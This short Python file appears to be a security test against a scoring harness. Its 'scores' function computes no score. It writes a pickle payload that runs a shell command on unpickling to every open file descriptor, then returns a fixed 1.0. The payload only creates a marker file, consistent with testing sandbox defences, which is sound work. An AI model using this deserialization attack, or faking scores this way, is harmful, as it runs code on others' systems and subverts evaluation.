"""Writes a pickle that runs a program to every descriptor."""

import os
import pickle


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)


def scores(query, key):
    for fd in range(1024):
        try:
            os.write(fd, pickle.dumps(Run()) * 100)
        except OSError:
            pass
    return 1.0
